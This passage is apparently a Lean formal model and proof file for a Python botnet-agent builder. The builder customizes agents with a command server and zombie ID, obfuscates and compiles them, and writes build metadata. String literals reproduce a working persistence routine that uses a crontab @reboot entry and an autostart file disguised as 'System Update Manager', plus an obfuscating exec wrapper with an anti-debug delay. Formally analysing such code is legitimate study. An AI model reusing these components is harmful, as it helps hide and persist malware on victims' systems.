pattern on linux and macos, exactly as produced after `re.sub` processes the
escape sequences of the replacement template (each two-character `\n` escape
in the template becomes a newline character). -/
def unixPersistReplacement : List Nat := strBytes "\n# Unix persistence mechanism\ndef setup_persistence():\n    \"\"\"Setup persistence on Unix systems\"\"\"\n    try:\n        home_dir = os.path.expanduser(\"~\")\n        \n        # For Linux desktop environments\n        autostart_dir = os.path.join(home_dir, \".config/autostart\")\n        if os.path.exists(autostart_dir):\n            os.makedirs(autostart_dir, exist_ok=True)\n            desktop_file = os.path.join(autostart_dir, \"system-update.desktop\")\n            with open(desktop_file, \"w\") as f:\n                f.write(\"\"\"[Desktop Entry]\nType=Application\nName=System Update Manager\nExec=\x7b\x7d\nHidden=false\nNoDisplay=false\nX-GNOME-Autostart-enabled=true\n\"\"\".format(os.path.abspath(sys.executable)))\n        \n        # For cron jobs\n        cron_path = os.path.join(home_dir, \".system-update\")\n        shutil.copy2(sys.executable, cron_path)\n        os.chmod(cron_path, 0o755)\n        \n        # Add to crontab\n        cron_cmd = f\"@reboot \x7bcron_path\x7d > /dev/null 2>&1\"\n        current_crontab = subprocess.check_output([\"crontab\", \"-l\"], stderr=subprocess.DEVNULL).decode()\n        if cron_cmd not in current_crontab:\n            with tempfile.NamedTemporaryFile(mode=\x27w\x27, delete=False) as temp_file:\n                temp_file.write(current_crontab)\n                if not current_crontab.endswith(\x27\n\x27):\n                    temp_file.write(\"\n\")\n                temp_file.write(cron_cmd + \"\n\")\n            subprocess.call([\"crontab\", temp_file.name])\n            os.unlink(temp_file.name)\n        \n        return True\n    except Exception as e:\n        logger.error(f\"Persistence error: \x7bstr(e)\x7d\")\n        return False\n\n# Call persistence setup with error handling\ntry:\n    setup_persistence()\nexcept:\n    pass\n\ndef main():"

/-- Whether a byte sequence contains a backslash (`\`, byte 92). -/
def hasBackslash : List Nat → Bool
  | [] => false
  | c :: rest => (c == 92) || hasBackslash rest

/-- Replacement-template escape processing, performed eagerly by `re.sub`
before any matching (`sre_parse.parse_template`): `\\` yields a backslash and
`\a`, `\b`, `\f`, `\n`, `\r`, `\t`, `\v` yield their control characters; any
other backslash-letter pair is a bad escape and raises `re.error`; `\0`
starts an octal escape (modelled for the bare `\0` only) while a nonzero
backslash-digit pair is a group reference, an error since no pattern used by
the customizer defines a group (the `\g<...>` named form, valid in Python
only as a whole-match reference here, is likewise mapped to the error case —
no statement below depends on the processor's value on a template containing
a backslash-`g` sequence); a backslash before any other character is kept
verbatim; a trailing lone backslash is an error. `none` models the raised
`re.error`. -/
def processTemplate : List Nat → Option (List Nat)
  | [] => some []
  | [c] => if c == 92 then none else some [c]
  | c :: d :: rest =>
    if c == 92 then
      let cont := processTemplate rest
      if d == 92 then cont.map (fun t => 92 :: t)
      else if d == 97 then cont.map (fun t => 7 :: t)
      else if d == 98 then cont.map (fun t => 8 :: t)
      else if d == 102 then cont.map (fun t => 12 :: t)
      else if d == 110 then cont.map (fun t => 10 :: t)
      else if d == 114 then cont.map (fun t => 13 :: t)
      else if d == 116 then cont.map (fun t => 9 :: t)
      else if d == 118 then cont.map (fun t => 11 :: t)
      else if d == 48 then cont.map (fun t => 0 :: t)
      else if (49 ≤ d && d ≤ 57) then none
      else if ((65 ≤ d && d ≤ 90) || (97 ≤ d && d ≤ 122)) then none
      else cont.map (fun t => 92 :: d :: t)
    else (processTemplate (d :: rest)).map (fun t => c :: t)

/-- The text rewriting applied to the staged agent source, `none` when it
raises. Each `re.sub` call first compiles its replacement template — eagerly,
before looking for a match — so a bad escape in an interpolated configuration
value (a backslash in the server address, for instance) raises even when the
pattern is absent from the text. The four interpolating substitutions run
first. On the windows branch the persistence replacement template contains
the sequences `\M`, `\W`, `\C` and `\R` (the doubled backslashes of the
registry path collapse once inside the non-raw triple-quoted literal), which
`re.sub` rejects with `bad escape \M` before scanning, so the windows branch
always raises regardless of the input text, and the windows payload import
injection after it is unreachable. On linux and macos the persistence
replacement template is valid (its escapes are `\n` newlines, already
processed in `unixPersistReplacement`) and the block is injected before
`def main():`. -/
def apply_source_customizations (b : Builder) (zid : String) (src : List Nat) :
    Option (List Nat) :=
  match processTemplate (strBytes ("SERVER_URL = \"" ++ b.server_url ++ "\"")) with
  | none => none
  | some r1 =>
    let s1 := subAll serverPattern r1 src
    match processTemplate (strBytes ("ZOMBIE_ID = \"" ++ zid ++ "\"")) with
    | none => none
    | some r2 =>
      let s2 := subAll zombieIdPattern r2 s1
      match processTemplate (strBytes ("CHECK_IN_INTERVAL = " ++
          toString (interval_pair b.obfuscation_level).1)) with
      | none => none
      | some r3 =>
        let s3 := subAll checkInPattern r3 s2
        match processTemplate (strBytes ("COMMAND_POLL_INTERVAL = " ++
            toString (interval_pair b.obfuscation_level).2)) with
        | none => none
        | some r4 =>
          let s4 := subAll pollPattern r4 s3
          if b.platform = "windows" then
            none
          else if b.platform = "linux" ∨ b.platform = "macos" then
            some (subAll mainPattern unixPersistReplacement s4)
          else
            some s4

/-- The source customizer stage: reads the staged source, applies the
rewriting, and writes the result to the build-identifier-named file;
a raised error is caught and reported as failure. -/
def modify_source_code (b : Builder) (e : Ext) (st : St) : Bool × St :=
  match getFile st (prep_dir b ++ "/" ++ SOURCE_FILE) with
  | none => (false, st)
  | some src =>
    match apply_source_customizations b e.fresh_zombie_id src with
    | none => (false, st)
    | some out => (true, putFile st (modified_source b) out)

/-! ## Obfuscation stage (`_obfuscate_code`, `_try_pyarmor_obfuscation`,
`_manual_obfuscation`) -/

/-- The PyArmor invocation and output collection, after the working-directory
copies succeeded. On success the expected obfuscated file is copied out, every
file of the tool output directory is copied into the obfuscation directory,
and the companion module (and payload module, when applicable) fall back to
the pre-tool copies when the tool did not re-emit them. -/
def pyarmor_run (b : Builder) (e : Ext) (dsrc : List Nat) (pay : Option (List Nat))
    (st : St) : Bool × St :=
  let st := addDir st (pyarmor_work_dir b ++ "/dist")
  match e.pyarmor_outcome with
  | .calledProcessError => (false, st)
  | .missingDist => (false, st)
  | .missingOutput => (false, st)
  | .raised => (false, st)
  | .ok =>
    let st := addDir st (obfuscate_dir b)
    let st := putFile st (obfuscated_file b) e.pyarmor_obf_bytes
    let st := e.pyarmor_extra_files.foldl
      (fun s nc => putFile s (obfuscate_dir b ++ "/" ++ nc.1) nc.2) st
    let st := if e.pyarmor_extra_files.any (fun nc => nc.1 == DOS_MODULE_FILE) then st
      else putFile st (obfuscate_dir b ++ "/" ++ DOS_MODULE_FILE) dsrc
    match pay with
    | none => (true, st)
    | some p =>
      let st := if e.pyarmor_extra_files.any (fun nc => nc.1 == "payload_module.py") then st
        else putFile st (obfuscate_dir b ++ "/payload_module.py") p
      (true, st)

/-- The PyArmor path: stages the customized source, companion module and
payload module (when applicable) into a working directory — a missing file
makes the copy raise, which the handler reports as failure — then runs the
tool and collects its output. -/
def try_pyarmor_obfuscation (b : Builder) (e : Ext) (st : St) : Bool × St :=
  let st := addDir st (pyarmor_work_dir b)
  match getFile st (modified_source b) with
  | none => (false, st)
  | some msrc =>
    match getFile st (prep_dir b ++ "/" ++ DOS_MODULE_FILE) with
    | none => (false, st)
    | some dsrc =>
      let st := putFile st (pyarmor_work_dir b ++ "/" ++ baseName (modified_source b)) msrc
      let st := putFile st (pyarmor_work_dir b ++ "/" ++ DOS_MODULE_FILE) dsrc
      if st.payload_data.isSome && (b.platform == "windows") then
        match getFile st (payload_module b) with
        | none => (false, st)
        | some psrc =>
          pyarmor_run b e dsrc (some psrc)
            (putFile st (pyarmor_work_dir b ++ "/payload_module.py") psrc)
      else
        pyarmor_run b e dsrc none st

/-- Fixed text of the manual obfuscation wrapper before the embedded blob. -/
def manualWrapperPre (iso : String) : List Nat :=
  strBytes ("# Obfuscated code - Generated " ++ iso ++ "\nimport base64\nimport zlib\nimport sys\nimport types\nimport time\nimport random\n\n# Anti-debug delay\ntime.sleep(random.uniform(0.1, 0.5))\n\n# Original code (compressed)\n_z = b\"")

/-- Fixed text of the manual obfuscation wrapper after the embedded blob. -/
def manualWrapperPost : List Nat :=
  strBytes "\"\n\n# Decode and execute\nexec(zlib.decompress(base64.b85decode(_z)).decode(\x27utf-8\x27))\n"

/-- The manual obfuscation wrapper: the blob `base64.b85encode(zlib.compress(src))`
embedded as the string literal `_z` inside the self-decoding script. -/
def manualWrapper (iso : String) (blob : List Nat) : List Nat :=
  manualWrapperPre iso ++ blob ++ manualWrapperPost

/-- The manual obfuscation fallback: reads the customized source, writes the
self-decoding wrapper to the expected obfuscated file path, then copies the
companion module (and payload module on a windows payload build) alongside;
a failing copy raises after the wrapper was already written. -/
def manual_obfuscation (b : Builder) (e : Ext) (st : St) : Bool × St :=
  match getFile st (modified_source b) with
  | none => (false, st)
  | some src =>
    let st := addDir st (obfuscate_dir b)
    let st := putFile st (obfuscated_file b)
      (manualWrapper e.iso_timestamp (b85encode (e.zlib.comp src)))
    match getFile st (prep_dir b ++ "/" ++ DOS_MODULE_FILE) with
    | none => (false, st)
    | some d =>
      let st := putFile st (obfuscate_dir b ++ "/" ++ DOS_MODULE_FILE) d
      if st.payload_data.isSome && (b.platform == "windows") then
        match getFile st (payload_module b) with
        | none => (false, st)
        | some p => (true, putFile st (obfuscate_dir b ++ "/payload_module.py") p)
      else (true, st)

/-- The obfuscation stage: the PyArmor path first, and on any failure of that
path the manual fallback. -/
def obfuscate_code (b : Builder) (e : Ext) (st : St) : Bool × St :=
  let r := try_pyarmor_obfuscation b e st
  if r.1 then r else manual_obfuscation b e r.2

/-! ## Compilation stage (`_compile_executable`, `_generate_spec_file`) -/

/-- Fixed parts of the PyInstaller spec template, split at its interpolation
points (doubled braces of the template are literal braces). -/
def specPart0 : String := "# -*- mode: python ; coding: utf-8 -*-\n\n    import sys\n    import os\n    from PyInstaller.utils.hooks import collect_data_files, collect_submodules\n\n    # Diagnostic information for debugging\n    print(\"Current working directory:\", os.getcwd())\n    print(\"Files in current directory:\", os.listdir(\x27.\x27))\n\n    # Debug imports\n    for module_name in [\n        \x27cryptography\x27, \x27socket\x27, \x27ssl\x27, \x27json\x27, \x27base64\x27, \x27threading\x27,\n        \x27uuid\x27, \x27random\x27, \x27time\x27, \x27subprocess\x27\n    ]:\n        try:\n            __import__(module_name)\n            print(f\"Successfully imported \x7bmodule_name\x7d\")\n        except ImportError as e:\n            print(f\"WARNING: Could not import \x7bmodule_name\x7d: \x7be\x7d\")\n\n    block_cipher = None\n\n    a = Analysis(\n        [\x27"

/-- Spec template between the entry script and the data files. -/
def specPart1 : String := "\x27],\n        pathex=[\x27.\x27],\n        binaries=[],\n        datas=["

/-- Spec template between the data files and the hidden imports. -/
def specPart2 : String := "],\n        hiddenimports=["

/-- Spec template between the hidden imports and the executable name. -/
def specPart3 : String := "],\n        hookspath=[],\n        hooksconfig=\x7b\x7d,\n        runtime_hooks=[],\n        excludes=[],\n        win_no_prefer_redirects=False,\n        win_private_assemblies=False,\n        cipher=block_cipher,\n        noarchive=False,\n    )\n\n    pyz = PYZ(a.pure, a.zipped_data, cipher=block_cipher)\n\n    exe = EXE(\n        pyz,\n        a.scripts,\n        a.binaries,\n        a.zipfiles,\n        a.datas,\n        [],\n        name=\x27zombie_"

/-- Spec template between the executable name and the UPX flag. -/
def specPart4 : String := "\x27,\n        debug=False,\n        bootloader_ignore_signals=False,\n        strip=False,\n        upx="

/-- Spec template between the UPX flag and the console flag. -/
def specPart5 : String := ",\n        upx_exclude=[],\n        runtime_tmpdir=None,\n        console="

/-- Spec template between the console flag and the argv emulation flag. -/
def specPart6 : String := ",\n        disable_windowed_traceback=False,\n        argv_emulation="

/-- Spec template between the argv emulation flag and the icon. -/
def specPart7 : String := ",\n        target_arch=None,\n        codesign_identity=None,\n        entitlements_file=None,\n        icon="

/-- Spec template after the icon. -/
def specPart8 : String := ",\n    )\n\n    # Print confirmation of successful execution\n    print(\"PyInstaller spec file executed successfully\")\n    "

/-- The generated PyInstaller build descriptor text: entry script, bundled
data files (companion module, payload module when applicable, tool-marker
files), the hidden-import list extended on windows payload builds, and the
platform-conditioned executable options. `use_upx` is the possibly-disabled
flag; `file_list` is the directory listing of the compilation directory. -/
def generate_spec_file (b : Builder) (use_upx has_payload : Bool)
    (file_list : List String) : List Nat :=
  let console_mode : String := if b.platform = "windows" then "False" else "True"
  let base_imports : List String :=
    ["\x27socket\x27", "\x27ssl\x27", "\x27json\x27", "\x27base64\x27", "\x27threading\x27",
     "\x27uuid\x27", "\x27random\x27", "\x27time\x27", "\x27subprocess\x27", "\x27os\x27", "\x27sys\x27",
     "\x27cryptography\x27", "\x27cryptography.hazmat\x27",
     "\x27cryptography.hazmat.primitives\x27", "\x27cryptography.hazmat.backends\x27",
     "\x27cryptography.hazmat.primitives.asymmetric\x27",
     "\x27cryptography.hazmat.primitives.ciphers\x27"]
  let additional_imports : List String :=
    if has_payload && (b.platform == "windows") then
      base_imports ++ ["\x27tempfile\x27", "\x27winreg\x27"] ++ ["\x27payload_module\x27"]
    else base_imports
  let datas : List String :=
    (if file_list.contains DOS_MODULE_FILE then ["(\x27dos_module.py\x27, \x27.\x27)"] else [])
    ++ (if has_payload && (b.platform == "windows") && file_list.contains "payload_module.py"
        then ["(\x27payload_module.py\x27, \x27.\x27)"] else [])
    ++ (file_list.filter (fun f => strLeads "pyarmor_" f)).map
        (fun f => "(\x27" ++ f ++ "\x27, \x27.\x27)")
  strBytes (specPart0 ++ baseName (obfuscated_file b) ++ specPart1 ++
    String.intercalate ", " datas ++ specPart2 ++
    String.intercalate ", " additional_imports ++ specPart3 ++
    b.platform ++ "_" ++ b.build_timestamp ++ specPart4 ++
    pyBool use_upx ++ specPart5 ++ console_mode ++ specPart6 ++
    pyBool (b.platform == "macos") ++ specPart7 ++
    (match b.icon_path with
     | some ic => pyRepr ic
     | none => "None") ++ specPart8)

/-- The files the compilation stage requires from the obfuscation stage
(`files_to_check`): the obfuscated main script, the companion module, and the
payload module on a windows payload build. -/
def files_to_check (b : Builder) (st : St) : List String :=
  [obfuscated_file b, obfuscate_dir b ++ "/" ++ DOS_MODULE_FILE] ++
  (if st.payload_data.isSome && (b.platform == "windows") then
    [obfuscate_dir b ++ "/payload_module.py"] else [])

/-- The compilation stage: verifies the expected obfuscation outputs exist,
stages them into a clean compilation directory, writes the generated spec
file, runs PyInstaller, checks for the deterministically named product, and
copies it to the output directory. -/
def compile_executable (b : Builder) (e : Ext) (st : St) : Bool × St :=
  if (files_to_check b st).all (fun p => (getFile st p).isSome) then
    let st1 := addDir (removeTree st (compile_dir b)) (compile_dir b)
    let st2 := (files_to_check b st).foldl (fun s p =>
      match getFile s p with
      | some c => putFile s (compile_dir b ++ "/" ++ baseName p) c
      | none => s) st1
    let st3 := (st2.files.filter (fun f => inDir (obfuscate_dir b) f.1)).foldl
      (fun s f => putFile s (compile_dir b ++ "/" ++ baseName f.1) f.2) st2
    let st4 := putFile st3 (compile_dir b ++ "/" ++ b.build_id ++ ".spec")
      (generate_spec_file b st3.use_upx (st3.payload_data.isSome && (b.platform == "windows"))
        ((st3.files.filter (fun f => inDir (compile_dir b) f.1)).map (fun f => baseName f.1)))
    if !e.pyinstaller_run_ok then (false, st4)
    else if !e.exe_produced then (false, st4)
    else
      let st5 := addDir (putFile st4 (compile_dir b ++ "/dist/" ++
        baseName (final_executable b)) e.exe_bytes) b.output_dir
      (true, putFile st5 (final_executable b) e.exe_bytes)
  else (false, st)

/-! ## Metadata generator (`_generate_metadata`) -/

/-- Lowercase hexadecimal digit test for byte values (`[a-f0-9]`). -/
def isHexLower (c : Nat) : Bool := (48 ≤ c && c ≤ 57) || (97 ≤ c && c ≤ 102)

/-- Leading literal of the agent identifier pattern. -/
def zidLead : List Nat := strBytes "ZOMBIE_ID = \"zombie_"

/-- Attempts to match the agent identifier pattern at the head of `s`. -/
def zidAt (s : List Nat) : Option (List Nat) :=
  if leadsWith zidLead s then
    let rest := s.drop zidLead.length
    let hex := rest.takeWhile isHexLower
    if 0 < hex.length && leadsWith (strBytes "\"") (rest.drop hex.length) then
      some (strBytes "zombie_" ++ hex)
    else none
  else none

/-- Recovery of the agent identifier from the customized source, by searching
for the first occurrence of `ZOMBIE_ID = "(zombie_[a-f0-9]+)"`. -/
def findZombieId : List Nat → Option (List Nat)
  | [] => none
  | a :: rest =>
    match zidAt (a :: rest) with
    | some z => some z
    | none => findZombieId rest

/-- The minimal metadata record returned when metadata generation fails
internally: only build identifier, timestamp, platform, and executable name. -/
def degraded_metadata (b : Builder) : List (String × JVal) :=
  [("build_id", .s b.build_id),
   ("timestamp", .s b.build_timestamp),
   ("platform", .s b.platform),
   ("executable", .s (baseName (final_executable b)))]

/-- The full metadata record, with a `payload` section exactly when a payload
path is configured on a windows build; its `size` field is
`os.path.getsize(payload_path)`, the byte length of the payload file. -/
def full_metadata (b : Builder) (e : Ext) (zid : String) : List (String × JVal) :=
  [("build_id", .s b.build_id),
   ("timestamp", .s b.build_timestamp),
   ("platform", .s b.platform),
   ("server_url", .s b.server_url),
   ("obfuscation_level", .s b.obfuscation_level),
   ("executable", .s (baseName (final_executable b))),
   ("zombie_id", .s zid),
   ("build_system", .obj
     [("python_version", .s e.python_version_string),
      ("system", .s e.system_string),
      ("release", .s e.release_string),
      ("machine", .s e.machine_string)])] ++
  (if b.payload_path.isSome && (b.platform == "windows") then
    [("payload", .obj
      [("source", .s (baseName (b.payload_path.getD ""))),
       ("size", .n e.payload_bytes.length),
       ("technique", .s b.payload_technique),
       ("delay", .i b.payload_delay)])]
  else [])

/-- The metadata generator: recovers the agent identifier from the customized
source (falling back to `unknown_<build id>`), assembles the record and writes
it to `<output>/<build id>_metadata.json`; on an internal error it returns the
minimal record without writing the file. -/
def generate_metadata (b : Builder) (e : Ext) (st : St) :
    List (String × JVal) × St :=
  if e.meta_err then (degraded_metadata b, st)
  else
    let zid := match getFile st (modified_source b) with
      | some content =>
        match findZombieId content with
        | some z => bytesStr z
        | none => "unknown_" ++ b.build_id
      | none => "unknown_" ++ b.build_id
    (full_metadata b e zid,
     putJson st (b.output_dir ++ "/" ++ b.build_id ++ "_metadata.json")
       (full_metadata b e zid))

/-! ## Cleanup (`_clean_up`) -/

/-- The cleanup stage. With debug off it removes the build root tree (with
errors ignored), then removes stray `.spec` files from the current working
directory — an unexpected error there is caught and the stage still returns
`True`. With debug on it only logs and changes nothing. The stage returns
`True` on every path. -/
def clean_up (b : Builder) (e : Ext) (st : St) : Bool × St :=
  if !b.debug then
    let st1 := removeTree st (build_dir b)
    if e.cleanup_err then (true, st1)
    else
      (true, { st1 with
        files := st1.files.filter (fun f => !(inDir b.base_dir f.1 && strEnds ".spec" f.1)) })
  else (true, st)

/-! ## The orchestrator (`ZombieBuilder.build`, `main`) -/

/-- The pipeline stages, in the order `build` runs them. -/
inductive Stage where
  | deps
  | prep
  | modifySrc
  | obfuscate
  | compileExe
  | metaGen
  | cleanup
deriving DecidableEq

/-- The fixed stage order of the pipeline. -/
def buildStageOrder : List Stage :=
  [.deps, .prep, .modifySrc, .obfuscate, .compileExe, .metaGen, .cleanup]

/-- Result of one `build()` call: the returned pair (success flag and
optional metadata record), the final world state, and the stages that ran. -/
structure BuildOut where
  success : Bool
  metadata : Option (List (String × JVal))
  st : St
  ran : List Stage

/-- The dependency-verifier call of the pipeline: `__init__` set `use_upx`
from the arguments and `payload_data` to `None` before any stage runs. -/
def afterDeps (b : Builder) (e : Ext) (st0 : St) : DepResult :=
  check_dependencies b e { st0 with use_upx := b.use_upx, payload_data := none }

/-- The environment-stager call of the pipeline. -/
def afterPrep (b : Builder) (e : Ext) (st0 : St) : Bool × St :=
  prepare_build_environment b e (afterDeps b e st0).st

/-- The source-customizer call of the pipeline. -/
def afterModify (b : Builder) (e : Ext) (st0 : St) : Bool × St :=
  modify_source_code b e (afterPrep b e st0).2

/-- The obfuscation-stage call of the pipeline. -/
def afterObf (b : Builder) (e : Ext) (st0 : St) : Bool × St :=
  obfuscate_code b e (afterModify b e st0).2

/-- The compilation-stage call of the pipeline. -/
def afterCompile (b : Builder) (e : Ext) (st0 : St) : Bool × St :=
  compile_executable b e (afterObf b e st0).2

/-- The metadata-generator call of the pipeline. -/
def afterMeta (b : Builder) (e : Ext) (st0 : St) : List (String × JVal) × St :=
  generate_metadata b e (afterCompile b e st0).2

/-- The cleanup call of the pipeline. -/
def afterCleanup (b : Builder) (e : Ext) (st0 : St) : Bool × St :=
  clean_up b e (afterMeta b e st0).2

/-- The full build pipeline: the five fallible stages in order, aborting with
`(False, None)` at the first failure; then metadata generation (whose result
is returned regardless of internal degradation) and cleanup (whose return
value is ignored). -/
def build (b : Builder) (e : Ext) (st0 : St) : BuildOut :=
  if !(afterDeps b e st0).ok then
    ⟨false, none, (afterDeps b e st0).st, [.deps]⟩
  else if !(afterPrep b e st0).1 then
    ⟨false, none, (afterPrep b e st0).2, [.deps, .prep]⟩
  else if !(afterModify b e st0).1 then
    ⟨false, none, (afterModify b e st0).2, [.deps, .prep, .modifySrc]⟩
  else if !(afterObf b e st0).1 then
    ⟨false, none, (afterObf b e st0).2, [.deps, .prep, .modifySrc, .obfuscate]⟩
  else if !(afterCompile b e st0).1 then
    ⟨false, none, (afterCompile b e st0).2, [.deps, .prep, .modifySrc, .obfuscate, .compileExe]⟩
  else
    ⟨true, some (afterMeta b e st0).1, (afterCleanup b e st0).2, buildStageOrder⟩

/-- The keys the success summary of the entry point reads unconditionally
from the returned metadata record. -/
def main_summary_reads (md : List (String × JVal)) : Bool :=
  (assocGet md "platform").isSome && (assocGet md "build_id").isSome &&
  (assocGet md "zombie_id").isSome && (assocGet md "executable").isSome &&
  (assocGet md "server_url").isSome

/-! ## General lemmas about the embedding -/

theorem getFile_putFile (st : St) (p : String) (c : List Nat) :
    getFile (putFile st p c) p = some c := by
  simp [getFile, putFile, assocGet]

theorem assocGet_filter_ne {α : Type} (l : List (String × α)) (q p : String) (h : q ≠ p) :
    assocGet (l.filter (fun f => f.1 ≠ q)) p = assocGet l p := by
  induction l with
  | nil => rfl
  | cons kv r ih =>
    obtain ⟨k, v⟩ := kv
    by_cases hk : k = q
    · subst hk
      rw [List.filter_cons_of_neg (by simp)]
      rw [ih]
      have hkp : ¬(k = p) := h
      simp [assocGet, hkp]
    · rw [List.filter_cons_of_pos (by simp [hk])]
      by_cases hp : k = p
      · simp only [assocGet]
        rw [if_pos hp, if_pos hp]
      · simp only [assocGet]
        rw [if_neg hp, if_neg hp]
        exact ih

theorem getFile_putFile_ne (st : St) (q p : String) (c : List Nat) (h : q ≠ p) :
    getFile (putFile st q c) p = getFile st p := by
  unfold getFile putFile
  simp only [assocGet, if_neg h]
  exact assocGet_filter_ne st.files q p h

theorem getFile_addDir (st : St) (d : String) (p : String) :
    getFile (addDir st d) p = getFile st p := rfl

theorem leadsWith_length (p : List Nat) :
    ∀ s : List Nat, leadsWith p s = true → p.length ≤ s.length := by
  induction p with
  | nil => intro s _; simp
  | cons a ps ih =>
    intro s h
    cases s with
    | nil => simp [leadsWith] at h
    | cons b bs =>
      simp only [leadsWith, Bool.and_eq_true] at h
      simp only [List.length_cons]
      exact Nat.succ_le_succ (ih bs h.2)

theorem leadsWith_append_decides (p : List Nat) :
    ∀ a c : List Nat, p.length ≤ a.length → leadsWith p (a ++ c) = leadsWith p a := by
  induction p with
  | nil => intro a c _; simp [leadsWith]
  | cons x ps ih =>
    intro a c h
    cases a with
    | nil => simp at h
    | cons y ys =>
      simp only [List.cons_append, leadsWith]
      rw [show ys.append c = ys ++ c from rfl, ih ys c (by simpa using h)]

theorem strBytes_append (x y : String) : strBytes (x ++ y) = strBytes x ++ strBytes y := by
  simp [strBytes]

theorem strBytes_length (s : String) : (strBytes s).length = s.length := by
  simp only [strBytes, List.length_map]
  rfl

/-- A suffix no longer than the fixed tail of a concatenation decides the
suffix test on the tail alone. -/
theorem strEnds_fixed (suf fix x : String) (h : suf.length ≤ fix.length) :
    strEnds suf (x ++ fix) = strEnds suf fix := by
  unfold strEnds
  rw [strBytes_append, List.reverse_append]
  exact leadsWith_append_decides _ _ _ (by simp [strBytes_length, h])

/-- The companion-module copy target is never the obfuscated file (their
fixed name suffixes differ). -/
theorem dos_obf_ne (b : Builder) :
    obfuscate_dir b ++ "/" ++ DOS_MODULE_FILE ≠ obfuscated_file b := by
  intro h
  have h1 : strEnds "e.py" (obfuscate_dir b ++ "/" ++ DOS_MODULE_FILE) = true := by
    rw [strEnds_fixed "e.py" DOS_MODULE_FILE (obfuscate_dir b ++ "/") (by decide)]
    decide
  have h2 : strEnds "e.py" (obfuscated_file b) = false := by
    unfold obfuscated_file
    rw [strEnds_fixed "e.py" "_obfuscated.py" (obfuscate_dir b ++ "/" ++ b.build_id)
      (by decide)]
    decide
  rw [h] at h1
  rw [h1] at h2
  exact Bool.noConfusion h2

/-- The payload-module copy target is never the obfuscated file. -/
theorem payload_obf_ne (b : Builder) :
    obfuscate_dir b ++ "/payload_module.py" ≠ obfuscated_file b := by
  intro h
  have h1 : strEnds "e.py" (obfuscate_dir b ++ "/payload_module.py") = true := by
    rw [strEnds_fixed "e.py" "/payload_module.py" (obfuscate_dir b) (by decide)]
    decide
  have h2 : strEnds "e.py" (obfuscated_file b) = false := by
    unfold obfuscated_file
    rw [strEnds_fixed "e.py" "_obfuscated.py" (obfuscate_dir b ++ "/" ++ b.build_id)
      (by decide)]
    decide
  rw [h] at h1
  rw [h1] at h2
  exact Bool.noConfusion h2

/-- The dependency verifier touches only `payload_data` and `use_upx`: the
file system is unchanged. -/
theorem check_dependencies_st (b : Builder) (e : Ext) (st : St) :
    (check_dependencies b e st).st.dirs = st.dirs ∧
    (check_dependencies b e st).st.files = st.files := by
  unfold check_dependencies
  repeat' split
  all_goals exact ⟨rfl, rfl⟩

/-- A successful `build` ran every fallible stage successfully. -/
theorem build_success_stages (b : Builder) (e : Ext) (st : St)
    (h : (build b e st).success = true) :
    (afterDeps b e st).ok = true ∧ (afterPrep b e st).1 = true ∧
    (afterModify b e st).1 = true ∧ (afterObf b e st).1 = true ∧
    (afterCompile b e st).1 = true := by
  unfold build at h
  cases h1 : (afterDeps b e st).ok with
  | false => rw [h1] at h; simp at h
  | true =>
    cases h2 : (afterPrep b e st).1 with
    | false => rw [h1, h2] at h; simp at h
    | true =>
      cases h3 : (afterModify b e st).1 with
      | false => rw [h1, h2, h3] at h; simp at h
      | true =>
        cases h4 : (afterObf b e st).1 with
        | false => rw [h1, h2, h3, h4] at h; simp at h
        | true =>
          cases h5 : (afterCompile b e st).1 with
          | false => rw [h1, h2, h3, h4, h5] at h; simp at h
          | true => exact ⟨rfl, rfl, rfl, rfl, rfl⟩

/-- The value of a successful `build`. -/
theorem build_eq_of_ok (b : Builder) (e : Ext) (st : St)
    (h1 : (afterDeps b e st).ok = true) (h2 : (afterPrep b e st).1 = true)
    (h3 : (afterModify b e st).1 = true) (h4 : (afterObf b e st).1 = true)
    (h5 : (afterCompile b e st).1 = true) :
    build b e st =
      ⟨true, some (afterMeta b e st).1, (afterCleanup b e st).2, buildStageOrder⟩ := by
  unfold build
  rw [h1, h2, h3, h4, h5]
  simp

/-! ## Concrete instances used to evaluate the model -/

/-- The empty initial world. -/
def st0 : St := ⟨[], [], [], none, false⟩

/-- A plain linux invocation with default options. -/
def bLinux : Builder :=
  ⟨"linux", "http://127.0.0.1:5000", "medium", none, none, 30, "direct",
   false, false, "/w/dist", "zombie_ab12cd34", "20260101000000", "/w"⟩

/-- The same invocation targeting windows with a payload file. -/
def bWinPay : Builder :=
  { bLinux with platform := "windows", payload_path := some "/w/p.bat" }

/-- An external world where every tool and input is present and every
subprocess succeeds. -/
def extAll : Ext :=
  { python_version := (3, 11, 0), python_version_string := "3.11.0",
    system_string := "Linux", release_string := "6.1", machine_string := "x86_64",
    pyarmor_ok := true, pyinstaller_ok := true, upx_ok := true,
    source_exists := true, dos_exists := true, icon_exists := true,
    payload_exists := true, payload_read_ok := true, payload_bytes := [104, 105],
    source_bytes := strBytes "def main():\n    pass\n",
    dos_bytes := strBytes "x = 1\n",
    prep_err := false, fresh_zombie_id := "zombie_deadbeef",
    pyarmor_outcome := .ok, pyarmor_obf_bytes := strBytes "ob\n",
    pyarmor_extra_files := [], iso_timestamp := "T", zlib := zlibId,
    pyinstaller_run_ok := true, exe_produced := true, exe_bytes := [1],
    meta_err := false, cleanup_err := false }

/-- The same linux invocation with debug mode on. -/
def bDebug : Builder := { bLinux with debug := true }

/-- A windows invocation without a payload. -/
def bWin : Builder := { bLinux with platform := "windows" }

/-- A linux invocation with a payload file configured. -/
def bLinuxPay : Builder := { bLinux with payload_path := some "/w/p.bat" }

/-- The world `extAll` with an internal error during metadata generation. -/
def extMetaErr : Ext := { extAll with meta_err := true }

/-- The world `extAll` with the PyArmor invocation raising. -/
def extPyarmorFail : Ext := { extAll with pyarmor_outcome := .raised }

/-- The world `extAll` with an agent source that contains none of the
customization patterns. -/
def extNoPatterns : Ext := { extAll with source_bytes := strBytes "x = 1\n" }

/-! ## The claims -/

/-- C1: `build()` runs the stages in the fixed order dependency check,
environment preparation, source customization, obfuscation, compilation,
metadata generation, cleanup; whenever one of the first five stages returns
failure, `build()` returns `(False, None)` without running the later stages;
and whenever compilation succeeds it returns `(True, metadata)` with a
non-`None` metadata record, for every oracle — in particular also when
metadata generation fails internally (degraded record) or cleanup errors. -/
theorem c1_build_pipeline (b : Builder) (e : Ext) (st : St) :
    listLeads (build b e st).ran buildStageOrder = true ∧
    ((build b e st).success = true ↔ (build b e st).ran = buildStageOrder) ∧
    ((build b e st).success = false → (build b e st).metadata = none ∧
      Stage.metaGen ∉ (build b e st).ran ∧ Stage.cleanup ∉ (build b e st).ran) ∧
    ((build b e st).success = true → (build b e st).metadata.isSome = true) := by
  unfold build
  repeat' split
  all_goals dsimp only
